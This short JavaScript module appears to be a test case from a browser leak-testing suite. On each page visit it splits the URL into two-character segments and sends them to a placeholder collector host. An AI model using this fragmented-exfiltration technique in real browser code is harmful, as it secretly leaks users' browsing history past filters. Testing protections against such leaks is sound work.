import { onVisit, piecesOf, reportHonestly, tryTo } from '../../lib/proving.js';

/** Sends the address of each page in a path: two characters in each segment. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-path-pairs');
  onVisit(browser, ({ url }) => {
    const path = piecesOf(url, 2).map(encodeURIComponent).join('/');

    return tryTo(browser, { url: `https://path-pairs.collector.example/v1/${path}` });
  });
}
